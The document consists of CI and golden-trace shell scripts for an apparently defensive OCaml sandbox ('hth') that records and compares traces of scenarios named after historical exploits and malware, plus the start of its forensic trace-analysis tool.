#!/bin/sh
# One-stop local CI: build, full test suite, and the trace determinism
# gate (every golden scenario run twice; the two JSONL traces must be
# byte-identical).  See DESIGN.md "Observability" and EXPERIMENTS.md.
set -eu

cd "$(dirname "$0")/.."

echo "== dune build @check =="
dune build @check

echo "== dune runtest =="
dune runtest

echo "== determinism gate =="
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM

status=0
for s in "ElmExploit" "nlspath" "procex" "grabem" "vixie crontab" \
         "pma" "superforker" "ls" "column"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.1.jsonl" >/dev/null
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.2.jsonl" >/dev/null
  if cmp -s "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl"; then
    echo "  ok: $s"
  else
    echo "  NONDETERMINISTIC TRACE: $s" >&2
    diff "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl" | head -10 >&2 || true
    status=1
  fi
done

echo "== engine-reuse gate =="
# One shared Hth.Engine.t runs every golden scenario twice in one
# process: traces must be byte-identical to cold per-session runs and
# warnings/verdicts identical (see DESIGN.md "The session engine").
if dune exec test/test_hth.exe -- test engine >/dev/null 2>&1; then
  echo "  ok: engine reuse (warm traces byte-identical to cold)"
else
  echo "  ENGINE-REUSE GATE FAILED" >&2
  dune exec test/test_hth.exe -- test engine || true
  status=1
fi

echo "== hth_trace smoke =="
# Offline analysis of a committed golden: explain and profile must
# render, self-diff must exit 0 and a cross-diff must exit 1.
dune exec bin/hth_trace.exe -- explain test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- profile test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
  test/golden/pma.jsonl >/dev/null
if dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
     test/golden/grabem.jsonl >/dev/null 2>&1; then
  echo "  hth_trace diff missed a divergence" >&2
  status=1
else
  echo "  ok: hth_trace explain/profile/diff"
fi

echo "== chaos gate =="
# Whole corpus under 5 seeded fault plans: no exception may escape the
# session supervisor, faulted traces must be byte-identical per seed,
# and degraded runs must be flagged without ever losing a warning.
if CHAOS_CORPUS=full dune exec test/test_hth.exe -- test chaos; then
  echo "  ok: chaos (full corpus)"
else
  echo "  CHAOS GATE FAILED" >&2
  status=1
fi

[ "$status" -eq 0 ] && echo "all checks passed"
exit "$status"
