#!/bin/sh
# One-stop local CI: build, full test suite, and the trace determinism
# gate (every golden scenario run twice; the two JSONL traces must be
# byte-identical).  See DESIGN.md "Observability" and EXPERIMENTS.md.
set -eu

cd "$(dirname "$0")/.."

echo "== dune build @check =="
dune build @check

echo "== dune runtest =="
dune runtest

echo "== determinism gate =="
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM

status=0
for s in "ElmExploit" "nlspath" "procex" "grabem" "vixie crontab" \
         "pma" "superforker" "ls" "column"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.1.jsonl" >/dev/null
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.2.jsonl" >/dev/null
  if cmp -s "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl"; then
    echo "  ok: $s"
  else
    echo "  NONDETERMINISTIC TRACE: $s" >&2
    diff "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl" | head -10 >&2 || true
    status=1
  fi
done

echo "== engine-reuse gate =="
# One shared Hth.Engine.t runs every golden scenario twice in one
# process: traces must be byte-identical to cold per-session runs and
# warnings/verdicts identical (see DESIGN.md "The session engine").
if dune exec test/test_hth.exe -- test engine >/dev/null 2>&1; then
  echo "  ok: engine reuse (warm traces byte-identical to cold)"
else
  echo "  ENGINE-REUSE GATE FAILED" >&2
  dune exec test/test_hth.exe -- test engine || true
  status=1
fi

echo "== hth_trace smoke =="
# Offline analysis of a committed golden: explain and profile must
# render, self-diff must exit 0 and a cross-diff must exit 1.
dune exec bin/hth_trace.exe -- explain test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- profile test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
  test/golden/pma.jsonl >/dev/null
if dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
     test/golden/grabem.jsonl >/dev/null 2>&1; then
  echo "  hth_trace diff missed a divergence" >&2
  status=1
else
  echo "  ok: hth_trace explain/profile/diff"
fi

echo "== chaos gate =="
# Whole corpus under 5 seeded fault plans: no exception may escape the
# session supervisor, faulted traces must be byte-identical per seed,
# and degraded runs must be flagged without ever losing a warning.
if CHAOS_CORPUS=full dune exec test/test_hth.exe -- test chaos; then
  echo "  ok: chaos (full corpus)"
else
  echo "  CHAOS GATE FAILED" >&2
  status=1
fi

echo "== fleet gate =="
# The whole corpus on a 4-worker fleet must be byte-identical to the
# one-worker fleet: same summary table on stdout, byte-identical
# per-scenario traces (see DESIGN.md "Fleet architecture").
dune exec bin/hth_run.exe -- batch --jobs 1 --trace-dir "$tmp/fleet1" \
  > "$tmp/fleet1.out"
dune exec bin/hth_run.exe -- batch --jobs 4 --trace-dir "$tmp/fleet4" \
  > "$tmp/fleet4.out"
if cmp -s "$tmp/fleet1.out" "$tmp/fleet4.out" \
   && diff -r "$tmp/fleet1" "$tmp/fleet4" >/dev/null; then
  echo "  ok: batch --jobs 4 byte-identical to --jobs 1 (stdout + traces)"
else
  echo "  FLEET NONDETERMINISM: --jobs 4 diverged from --jobs 1" >&2
  diff "$tmp/fleet1.out" "$tmp/fleet4.out" | head -10 >&2 || true
  diff -r "$tmp/fleet1" "$tmp/fleet4" | head -10 >&2 || true
  status=1
fi

# Repeated stress sanity: scheduling is racy even though output must
# not be — three more 4-worker sweeps, all identical to the first.
for i in 1 2 3; do
  dune exec bin/hth_run.exe -- batch --jobs 4 > "$tmp/fleet4.rep"
  if ! cmp -s "$tmp/fleet4.out" "$tmp/fleet4.rep"; then
    echo "  FLEET STRESS: run $i diverged" >&2
    status=1
  fi
done
[ "$status" -eq 0 ] && echo "  ok: 3 repeated --jobs 4 sweeps identical"

echo "== dormancy gate =="
# Every dormant scenario's live trace must match its committed golden
# byte for byte — the armed path must appear in triggered runs only —
# and the triggered explain renderings (which cite the trigger input's
# taint origin) must match their committed goldens (see DESIGN.md
# "Dormant scenarios & trigger protocol").
for s in "sleeper daemon idle" "sleeper daemon triggered" \
         "sleeper daemon disarmed" "logic bomb idle" \
         "logic bomb triggered" "logic bomb defused" \
         "worm pair idle" "worm pair triggered" "worm pair recalled" \
         "update client idle" "update client triggered" \
         "update client rejected"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.jsonl" >/dev/null
  if cmp -s "test/golden/$f.jsonl" "$tmp/$f.jsonl"; then
    echo "  ok: $s"
  else
    echo "  DORMANT TRACE DIVERGED FROM GOLDEN: $s" >&2
    diff "test/golden/$f.jsonl" "$tmp/$f.jsonl" | head -10 >&2 || true
    status=1
  fi
  case "$s" in
  *triggered)
    dune exec bin/hth_trace.exe -- explain "test/golden/$f.jsonl" \
      > "$tmp/$f.explain"
    if cmp -s "test/golden/$f.explain.txt" "$tmp/$f.explain"; then
      echo "  ok: $s (explain)"
    else
      echo "  DORMANT EXPLAIN DIVERGED FROM GOLDEN: $s" >&2
      diff "test/golden/$f.explain.txt" "$tmp/$f.explain" | head -10 >&2 \
        || true
      status=1
    fi
    ;;
  esac
done

echo "== hth_serve smoke =="
# A mixed request script (native, clips, faulted, malformed) served on
# two workers: responses must come back in input order and be
# deterministic across two service processes.
cat > "$tmp/serve.jobs" <<'EOF'
{"scenario":"pma","id":"a"}
{"scenario":"grabem","policy":"clips"}
{"scenario":"ls","seed":3}
this is not json
{"scenario":"column"}
EOF
dune exec bin/hth_serve.exe -- --jobs 2 < "$tmp/serve.jobs" \
  > "$tmp/serve.1"
dune exec bin/hth_serve.exe -- --jobs 2 < "$tmp/serve.jobs" \
  > "$tmp/serve.2"
if [ "$(wc -l < "$tmp/serve.1")" = 5 ] \
   && cmp -s "$tmp/serve.1" "$tmp/serve.2" \
   && [ "$(grep -c '"status":"ok"' "$tmp/serve.1")" = 4 ] \
   && [ "$(grep -c '"status":"bad_request"' "$tmp/serve.1")" = 1 ]; then
  echo "  ok: hth_serve (5 requests, ordered, deterministic)"
else
  echo "  HTH_SERVE SMOKE FAILED" >&2
  cat "$tmp/serve.1" >&2
  status=1
fi

echo "== serve-resilience gate =="
# One supervised fleet behind a Unix socket (DESIGN.md §17): a client
# that vanishes mid-stream must not disturb other connections; SIGTERM
# under load must drain every admitted response, exit 0 and unlink the
# socket file.  Three iterations because the scheduling is racy even
# though the contract is not.
serve_exe=_build/default/bin/hth_serve.exe
client_exe=_build/default/bin/hth_client.exe
dune build bin/hth_serve.exe bin/hth_client.exe
cat > "$tmp/resil.jobs" <<'EOF'
{"scenario":"pma","id":"r0"}
{"scenario":"grabem","policy":"clips","id":"r1"}
{"scenario":"ls","seed":3,"id":"r2"}
{"scenario":"column","id":"r3"}
{"scenario":"procex","id":"r4"}
EOF
# reference bytes for that script, from the same service code path
"$serve_exe" --jobs 2 < "$tmp/resil.jobs" > "$tmp/resil.ref"
: > "$tmp/load.jobs"
i=0
while [ "$i" -lt 20 ]; do
  echo "{\"scenario\":\"pma\",\"id\":\"load-$i\"}" >> "$tmp/load.jobs"
  i=$((i + 1))
done
for i in 1 2 3; do
  sock="$tmp/hth.$i.sock"
  "$serve_exe" --socket "$sock" --jobs 2 --deadline 30 \
    2> "$tmp/serve_resil.$i.log" &
  srv=$!
  n=0
  while [ ! -S "$sock" ] && [ "$n" -lt 100 ]; do
    sleep 0.05
    n=$((n + 1))
  done
  # a misbehaving client disconnects after one response...
  "$client_exe" --socket "$sock" --abort-after 1 < "$tmp/resil.jobs" \
    > /dev/null 2>&1 || true
  # ...while a well-behaved one must still get every byte it is owed
  "$client_exe" --socket "$sock" < "$tmp/resil.jobs" > "$tmp/resil.$i"
  if ! cmp -s "$tmp/resil.ref" "$tmp/resil.$i"; then
    echo "  SERVE RESILIENCE: post-disconnect responses diverged (iter $i)" >&2
    diff "$tmp/resil.ref" "$tmp/resil.$i" | head -10 >&2 || true
    status=1
  fi
  # health answers from the shared supervisor
  if ! echo '{"op":"health"}' | "$client_exe" --socket "$sock" \
       | grep -q '"status":"health"'; then
    echo "  SERVE RESILIENCE: health op failed (iter $i)" >&2
    status=1
  fi
  # SIGTERM under load: every admitted request still gets a response
  "$client_exe" --socket "$sock" < "$tmp/load.jobs" > "$tmp/load.$i" &
  cli=$!
  sleep 0.3
  kill -TERM "$srv"
  wait "$cli" || true
  if wait "$srv"; then :; else
    echo "  SERVE RESILIENCE: server exit code $? after SIGTERM (iter $i)" >&2
    status=1
  fi
  if [ "$(wc -l < "$tmp/load.$i")" != 20 ]; then
    echo "  SERVE RESILIENCE: $(wc -l < "$tmp/load.$i")/20 responses drained (iter $i)" >&2
    status=1
  fi
  if [ -e "$sock" ]; then
    echo "  SERVE RESILIENCE: socket file left behind (iter $i)" >&2
    status=1
  fi
done
[ "$status" -eq 0 ] \
  && echo "  ok: serve resilience (disconnects, SIGTERM drain, 3 iterations)"

[ "$status" -eq 0 ] && echo "all checks passed"
exit "$status"
