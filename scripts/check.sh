#!/bin/sh
# One-stop local CI: build, full test suite, and the trace determinism
# gate (every golden scenario run twice; the two JSONL traces must be
# byte-identical).  See DESIGN.md "Observability" and EXPERIMENTS.md.
set -eu

cd "$(dirname "$0")/.."

echo "== dune build @check =="
dune build @check

echo "== dune runtest =="
dune runtest

echo "== determinism gate =="
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM

status=0
for s in "ElmExploit" "nlspath" "procex" "grabem" "vixie crontab" \
         "pma" "superforker" "ls" "column"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.1.jsonl" >/dev/null
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.2.jsonl" >/dev/null
  if cmp -s "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl"; then
    echo "  ok: $s"
  else
    echo "  NONDETERMINISTIC TRACE: $s" >&2
    diff "$tmp/$f.1.jsonl" "$tmp/$f.2.jsonl" | head -10 >&2 || true
    status=1
  fi
done

echo "== engine-reuse gate =="
# One shared Hth.Engine.t runs every golden scenario twice in one
# process: traces must be byte-identical to cold per-session runs and
# warnings/verdicts identical (see DESIGN.md "The session engine").
if dune exec test/test_hth.exe -- test engine >/dev/null 2>&1; then
  echo "  ok: engine reuse (warm traces byte-identical to cold)"
else
  echo "  ENGINE-REUSE GATE FAILED" >&2
  dune exec test/test_hth.exe -- test engine || true
  status=1
fi

echo "== hth_trace smoke =="
# Offline analysis of a committed golden: explain and profile must
# render, self-diff must exit 0 and a cross-diff must exit 1.
dune exec bin/hth_trace.exe -- explain test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- profile test/golden/pma.jsonl >/dev/null
dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
  test/golden/pma.jsonl >/dev/null
if dune exec bin/hth_trace.exe -- diff test/golden/pma.jsonl \
     test/golden/grabem.jsonl >/dev/null 2>&1; then
  echo "  hth_trace diff missed a divergence" >&2
  status=1
else
  echo "  ok: hth_trace explain/profile/diff"
fi

echo "== chaos gate =="
# Whole corpus under 5 seeded fault plans: no exception may escape the
# session supervisor, faulted traces must be byte-identical per seed,
# and degraded runs must be flagged without ever losing a warning.
if CHAOS_CORPUS=full dune exec test/test_hth.exe -- test chaos; then
  echo "  ok: chaos (full corpus)"
else
  echo "  CHAOS GATE FAILED" >&2
  status=1
fi

echo "== fleet gate =="
# The whole corpus on a 4-worker fleet must be byte-identical to the
# one-worker fleet: same summary table on stdout, byte-identical
# per-scenario traces (see DESIGN.md "Fleet architecture").
dune exec bin/hth_run.exe -- batch --jobs 1 --trace-dir "$tmp/fleet1" \
  > "$tmp/fleet1.out"
dune exec bin/hth_run.exe -- batch --jobs 4 --trace-dir "$tmp/fleet4" \
  > "$tmp/fleet4.out"
if cmp -s "$tmp/fleet1.out" "$tmp/fleet4.out" \
   && diff -r "$tmp/fleet1" "$tmp/fleet4" >/dev/null; then
  echo "  ok: batch --jobs 4 byte-identical to --jobs 1 (stdout + traces)"
else
  echo "  FLEET NONDETERMINISM: --jobs 4 diverged from --jobs 1" >&2
  diff "$tmp/fleet1.out" "$tmp/fleet4.out" | head -10 >&2 || true
  diff -r "$tmp/fleet1" "$tmp/fleet4" | head -10 >&2 || true
  status=1
fi

# Repeated stress sanity: scheduling is racy even though output must
# not be — three more 4-worker sweeps, all identical to the first.
for i in 1 2 3; do
  dune exec bin/hth_run.exe -- batch --jobs 4 > "$tmp/fleet4.rep"
  if ! cmp -s "$tmp/fleet4.out" "$tmp/fleet4.rep"; then
    echo "  FLEET STRESS: run $i diverged" >&2
    status=1
  fi
done
[ "$status" -eq 0 ] && echo "  ok: 3 repeated --jobs 4 sweeps identical"

echo "== dormancy gate =="
# Every dormant scenario's live trace must match its committed golden
# byte for byte — the armed path must appear in triggered runs only —
# and the triggered explain renderings (which cite the trigger input's
# taint origin) must match their committed goldens (see DESIGN.md
# "Dormant scenarios & trigger protocol").
for s in "sleeper daemon idle" "sleeper daemon triggered" \
         "sleeper daemon disarmed" "logic bomb idle" \
         "logic bomb triggered" "logic bomb defused" \
         "worm pair idle" "worm pair triggered" "worm pair recalled" \
         "update client idle" "update client triggered" \
         "update client rejected"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --trace "$tmp/$f.jsonl" >/dev/null
  if cmp -s "test/golden/$f.jsonl" "$tmp/$f.jsonl"; then
    echo "  ok: $s"
  else
    echo "  DORMANT TRACE DIVERGED FROM GOLDEN: $s" >&2
    diff "test/golden/$f.jsonl" "$tmp/$f.jsonl" | head -10 >&2 || true
    status=1
  fi
  case "$s" in
  *triggered)
    dune exec bin/hth_trace.exe -- explain "test/golden/$f.jsonl" \
      > "$tmp/$f.explain"
    if cmp -s "test/golden/$f.explain.txt" "$tmp/$f.explain"; then
      echo "  ok: $s (explain)"
    else
      echo "  DORMANT EXPLAIN DIVERGED FROM GOLDEN: $s" >&2
      diff "test/golden/$f.explain.txt" "$tmp/$f.explain" | head -10 >&2 \
        || true
      status=1
    fi
    ;;
  esac
done

echo "== tiering gate =="
# Tiered execution must be observationally invisible (DESIGN.md §19).
# The dormancy gate above already ran the 12-scenario golden corpus
# with tiering on (the default); running it again with tiering off
# must reproduce the committed goldens byte for byte, so tier on vs
# off differ in nothing but speed.  Then an aggressive tier
# (threshold 1, every block compiled on first entry) fleet sweep on
# two workers must be byte-identical to a --no-tier sweep — tiering
# and work-stealing parity hold together, not just separately.
for s in "sleeper daemon idle" "sleeper daemon triggered" \
         "sleeper daemon disarmed" "logic bomb idle" \
         "logic bomb triggered" "logic bomb defused" \
         "worm pair idle" "worm pair triggered" "worm pair recalled" \
         "update client idle" "update client triggered" \
         "update client rejected"; do
  f=$(echo "$s" | tr ' ' '_')
  dune exec bin/hth_run.exe -- run "$s" --no-tier \
    --trace "$tmp/$f.notier.jsonl" >/dev/null
  if cmp -s "test/golden/$f.jsonl" "$tmp/$f.notier.jsonl"; then
    echo "  ok: $s (--no-tier = golden)"
  else
    echo "  TIERING CHANGED THE OBSERVABLE TRACE: $s" >&2
    diff "test/golden/$f.jsonl" "$tmp/$f.notier.jsonl" | head -10 >&2 || true
    status=1
  fi
done
dune exec bin/hth_run.exe -- batch --jobs 2 --tier-threshold 1 \
  --trace-dir "$tmp/tier_on" > "$tmp/tier_on.out"
dune exec bin/hth_run.exe -- batch --jobs 2 --no-tier \
  --trace-dir "$tmp/tier_off" > "$tmp/tier_off.out"
if cmp -s "$tmp/tier_on.out" "$tmp/tier_off.out" \
   && diff -r "$tmp/tier_on" "$tmp/tier_off" >/dev/null; then
  echo "  ok: --tier-threshold 1 fleet sweep byte-identical to --no-tier"
else
  echo "  TIERING DIVERGED UNDER THE FLEET" >&2
  diff "$tmp/tier_on.out" "$tmp/tier_off.out" | head -10 >&2 || true
  diff -r "$tmp/tier_on" "$tmp/tier_off" | head -10 >&2 || true
  status=1
fi

echo "== hth_serve smoke =="
# A mixed request script (native, clips, faulted, malformed) served on
# two workers: responses must come back in input order and be
# deterministic across two service processes.
cat > "$tmp/serve.jobs" <<'EOF'
{"scenario":"pma","id":"a"}
{"scenario":"grabem","policy":"clips"}
{"scenario":"ls","seed":3}
this is not json
{"scenario":"column"}
EOF
dune exec bin/hth_serve.exe -- --jobs 2 < "$tmp/serve.jobs" \
  > "$tmp/serve.1"
dune exec bin/hth_serve.exe -- --jobs 2 < "$tmp/serve.jobs" \
  > "$tmp/serve.2"
if [ "$(wc -l < "$tmp/serve.1")" = 5 ] \
   && cmp -s "$tmp/serve.1" "$tmp/serve.2" \
   && [ "$(grep -c '"status":"ok"' "$tmp/serve.1")" = 4 ] \
   && [ "$(grep -c '"status":"bad_request"' "$tmp/serve.1")" = 1 ]; then
  echo "  ok: hth_serve (5 requests, ordered, deterministic)"
else
  echo "  HTH_SERVE SMOKE FAILED" >&2
  cat "$tmp/serve.1" >&2
  status=1
fi

echo "== serve-resilience gate =="
# One supervised fleet behind a Unix socket (DESIGN.md §17): a client
# that vanishes mid-stream must not disturb other connections; SIGTERM
# under load must drain every admitted response, exit 0 and unlink the
# socket file.  Three iterations because the scheduling is racy even
# though the contract is not.
serve_exe=_build/default/bin/hth_serve.exe
client_exe=_build/default/bin/hth_client.exe
dune build bin/hth_serve.exe bin/hth_client.exe
cat > "$tmp/resil.jobs" <<'EOF'
{"scenario":"pma","id":"r0"}
{"scenario":"grabem","policy":"clips","id":"r1"}
{"scenario":"ls","seed":3,"id":"r2"}
{"scenario":"column","id":"r3"}
{"scenario":"procex","id":"r4"}
EOF
# reference bytes for that script, from the same service code path
"$serve_exe" --jobs 2 < "$tmp/resil.jobs" > "$tmp/resil.ref"
: > "$tmp/load.jobs"
i=0
while [ "$i" -lt 20 ]; do
  echo "{\"scenario\":\"pma\",\"id\":\"load-$i\"}" >> "$tmp/load.jobs"
  i=$((i + 1))
done
for i in 1 2 3; do
  sock="$tmp/hth.$i.sock"
  "$serve_exe" --socket "$sock" --jobs 2 --deadline 30 \
    2> "$tmp/serve_resil.$i.log" &
  srv=$!
  n=0
  while [ ! -S "$sock" ] && [ "$n" -lt 100 ]; do
    sleep 0.05
    n=$((n + 1))
  done
  # a misbehaving client disconnects after one response...
  "$client_exe" --socket "$sock" --abort-after 1 < "$tmp/resil.jobs" \
    > /dev/null 2>&1 || true
  # ...while a well-behaved one must still get every byte it is owed
  "$client_exe" --socket "$sock" < "$tmp/resil.jobs" > "$tmp/resil.$i"
  if ! cmp -s "$tmp/resil.ref" "$tmp/resil.$i"; then
    echo "  SERVE RESILIENCE: post-disconnect responses diverged (iter $i)" >&2
    diff "$tmp/resil.ref" "$tmp/resil.$i" | head -10 >&2 || true
    status=1
  fi
  # health answers from the shared supervisor
  if ! echo '{"op":"health"}' | "$client_exe" --socket "$sock" \
       | grep -q '"status":"health"'; then
    echo "  SERVE RESILIENCE: health op failed (iter $i)" >&2
    status=1
  fi
  # SIGTERM under load: every admitted request still gets a response
  "$client_exe" --socket "$sock" < "$tmp/load.jobs" > "$tmp/load.$i" &
  cli=$!
  sleep 0.3
  kill -TERM "$srv"
  wait "$cli" || true
  if wait "$srv"; then :; else
    echo "  SERVE RESILIENCE: server exit code $? after SIGTERM (iter $i)" >&2
    status=1
  fi
  if [ "$(wc -l < "$tmp/load.$i")" != 20 ]; then
    echo "  SERVE RESILIENCE: $(wc -l < "$tmp/load.$i")/20 responses drained (iter $i)" >&2
    status=1
  fi
  if [ -e "$sock" ]; then
    echo "  SERVE RESILIENCE: socket file left behind (iter $i)" >&2
    status=1
  fi
done
[ "$status" -eq 0 ] \
  && echo "  ok: serve resilience (disconnects, SIGTERM drain, 3 iterations)"

echo "== store-determinism gate =="
# The trace warehouse contract (DESIGN.md §18): two independently
# built stores — a 1-worker and a 2-worker batch sweep — must be
# byte-identical down to every segment file; per-run answers from the
# store must match the JSONL-file path byte for byte; and the fleet
# query surface must answer byte-identically from either build.
run_exe=_build/default/bin/hth_run.exe
trace_exe=_build/default/bin/hth_trace.exe
dune build bin/hth_run.exe bin/hth_trace.exe
"$run_exe" batch --jobs 1 --store "$tmp/store1" > /dev/null
"$run_exe" batch --jobs 2 --store "$tmp/store2" > /dev/null
if diff -r "$tmp/store1" "$tmp/store2" >/dev/null; then
  echo "  ok: batch --jobs 2 store byte-identical to --jobs 1"
else
  echo "  STORE NONDETERMINISM: --jobs 2 store diverged from --jobs 1" >&2
  diff -r "$tmp/store1" "$tmp/store2" | head -10 >&2 || true
  status=1
fi

# store-vs-file answers: one run teed to both destinations, every
# per-run analysis compared byte for byte
"$run_exe" run pma --trace "$tmp/pma.tee.jsonl" --store "$tmp/store.tee" \
  > /dev/null
store_file_ok=1
for c in explain profile; do
  "$trace_exe" "$c" "$tmp/pma.tee.jsonl" > "$tmp/pma.$c.file"
  "$trace_exe" "$c" --store "$tmp/store.tee" pma > "$tmp/pma.$c.store"
  if ! cmp -s "$tmp/pma.$c.file" "$tmp/pma.$c.store"; then
    echo "  STORE ANSWER DIVERGED: $c (file vs warehouse)" >&2
    store_file_ok=0
    status=1
  fi
done
"$trace_exe" query "$tmp/pma.tee.jsonl" --ev flow > "$tmp/pma.query.file"
"$trace_exe" query --store "$tmp/store.tee" pma --ev flow \
  > "$tmp/pma.query.store"
if ! cmp -s "$tmp/pma.query.file" "$tmp/pma.query.store"; then
  echo "  STORE ANSWER DIVERGED: query (file vs warehouse)" >&2
  store_file_ok=0
  status=1
fi
# reconstructed trace must byte-equal the teed file: self-diff exits 0
if ! "$trace_exe" diff --store "$tmp/store.tee" pma pma > /dev/null; then
  echo "  STORE ANSWER DIVERGED: self-diff nonzero" >&2
  store_file_ok=0
  status=1
fi
[ "$store_file_ok" -eq 1 ] \
  && echo "  ok: explain/query/profile/diff identical from file and store"

# the fleet surface, from both builds
fleet_ok=1
for q in ls "query --severity HIGH" "query --resource SYS_execve" \
         "profile --top 5" "diff pma"; do
  # shellcheck disable=SC2086
  "$trace_exe" fleet $q --store "$tmp/store1" > "$tmp/fleetq.1"
  # shellcheck disable=SC2086
  "$trace_exe" fleet $q --store "$tmp/store2" > "$tmp/fleetq.2"
  if ! cmp -s "$tmp/fleetq.1" "$tmp/fleetq.2"; then
    echo "  FLEET QUERY DIVERGED ACROSS BUILDS: fleet $q" >&2
    status=1
    fleet_ok=0
  fi
done
[ "$fleet_ok" -eq 1 ] \
  && echo "  ok: fleet ls/query/profile/diff byte-identical across builds"

# SIGTERM under load with a store attached: appends are
# publish-atomic and ordered before response emission, so the drained
# store must hold exactly one complete, readable run per drained
# response — never a torn segment
sock="$tmp/hth.store.sock"
"$serve_exe" --socket "$sock" --jobs 2 --deadline 30 \
  --store "$tmp/store.srv" 2> "$tmp/serve_store.log" &
srv=$!
n=0
while [ ! -S "$sock" ] && [ "$n" -lt 100 ]; do
  sleep 0.05
  n=$((n + 1))
done
"$client_exe" --socket "$sock" < "$tmp/load.jobs" > "$tmp/load.store" &
cli=$!
sleep 0.3
kill -TERM "$srv"
wait "$cli" || true
if wait "$srv"; then :; else
  echo "  STORE DRAIN: server exit code $? after SIGTERM" >&2
  status=1
fi
drained=$(wc -l < "$tmp/load.store")
stored=$(wc -l < "$tmp/store.srv/MANIFEST.jsonl")
if [ "$stored" != "$drained" ]; then
  echo "  STORE DRAIN: $stored stored runs vs $drained drained responses" >&2
  status=1
fi
# every manifest entry's segment index must load (profile touches all),
# and a full segment reconstruction must round-trip
if "$trace_exe" fleet profile --store "$tmp/store.srv" > /dev/null \
   && { [ "$stored" -eq 0 ] \
        || "$trace_exe" profile --store "$tmp/store.srv" pma@0 > /dev/null; }
then
  echo "  ok: SIGTERM-drained store complete-or-absent ($stored runs)"
else
  echo "  STORE DRAIN: drained store failed to read back" >&2
  status=1
fi

[ "$status" -eq 0 ] && echo "all checks passed"
exit "$status"
