#!/bin/sh
# Regenerate the committed golden traces in test/golden/ after an
# *intended* behaviour change (new rule, changed event schema, extra
# syscall in a guest program).  Prints a per-scenario diff summary so
# the change can be reviewed like code: each changed line is a changed
# observable behaviour.  See EXPERIMENTS.md "Golden traces".
#
# Usage: scripts/update_golden.sh [scenario ...]
#   With no arguments every golden scenario is regenerated.
set -eu

cd "$(dirname "$0")/.."

if [ "$#" -gt 0 ]; then
  scenarios="$*"
else
  scenarios='ElmExploit
nlspath
procex
grabem
vixie crontab
pma
superforker
ls
column
sleeper daemon idle
sleeper daemon triggered
sleeper daemon disarmed
logic bomb idle
logic bomb triggered
logic bomb defused
worm pair idle
worm pair triggered
worm pair recalled
update client idle
update client triggered
update client rejected'
fi

dune build bin/hth_run.exe bin/hth_trace.exe

tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM

changed=0
echo "$scenarios" | while IFS= read -r s; do
  [ -n "$s" ] || continue
  f=$(echo "$s" | tr ' ' '_')
  golden="test/golden/$f.jsonl"
  fresh="$tmp/$f.jsonl"
  dune exec --no-build bin/hth_run.exe -- run "$s" --trace "$fresh" >/dev/null

  if [ ! -f "$golden" ]; then
    cp "$fresh" "$golden"
    echo "NEW      $golden ($(wc -l < "$golden") lines)"
  elif cmp -s "$golden" "$fresh"; then
    echo "same     $golden"
  else
    added=$(diff "$golden" "$fresh" | grep -c '^>' || true)
    removed=$(diff "$golden" "$fresh" | grep -c '^<' || true)
    first=$(dune exec --no-build bin/hth_trace.exe -- diff "$golden" "$fresh" \
              | sed -n 's/^traces diverge at /diverged at /p' | head -1) || true
    cp "$fresh" "$golden"
    echo "UPDATED  $golden (+$added -$removed lines; $first)"
    changed=1
  fi

  # Keep the committed explain rendering (used by the forensics tests)
  # in lockstep with its trace.
  explain="test/golden/$f.explain.txt"
  if [ -f "$explain" ]; then
    dune exec --no-build bin/hth_trace.exe -- explain "$golden" > "$explain"
    echo "         refreshed $explain"
  fi
done

echo "done — review the git diff before committing."
