(* hth_trace: offline forensic analysis of recorded JSONL traces.
   Everything here reads trace files or warehouse segments only — no
   guest re-execution.

     hth_trace explain trace.jsonl            per-warning causal chains
     hth_trace explain --store DIR pma        same, from the warehouse
     hth_trace query trace.jsonl --ev flow    filter the event stream
     hth_trace diff a.jsonl b.jsonl           first-divergence step
     hth_trace profile trace.jsonl            hot blocks / syscall mix
     hth_trace fleet ls --store DIR           the manifest, one row per run
     hth_trace fleet query --store DIR ...    cross-run search by index
     hth_trace fleet profile --store DIR      fleet-wide hot blocks
     hth_trace fleet diff --store DIR RUN     run vs fleet-median counters

   With --store, the per-run commands operate on a warehouse run id
   instead of a file; the reconstructed trace is byte-identical to the
   JSONL the session would have written, so every answer matches the
   file path exactly. *)

open Cmdliner

let fail_store e =
  Printf.eprintf "hth_trace: %s\n" (Hth.Error.to_string e);
  exit 2

let load_view dir =
  match Store.Warehouse.load dir with Ok v -> v | Error e -> fail_store e

let find_entry (view : Store.Warehouse.view) run =
  match Store.Warehouse.find view run with
  | Some e -> e
  | None ->
    Printf.eprintf "hth_trace: no run %S in store %s\n" run view.v_dir;
    exit 2

let raw_of_store dir run =
  let view = load_view dir in
  match Store.Warehouse.raw_trace view (find_entry view run) with
  | Ok raw -> raw
  | Error e -> fail_store e

(* [path] is a trace file, or a warehouse run id under --store. *)
let load ~store path =
  let parsed =
    match store with
    | None -> Forensics.Reader.of_file path
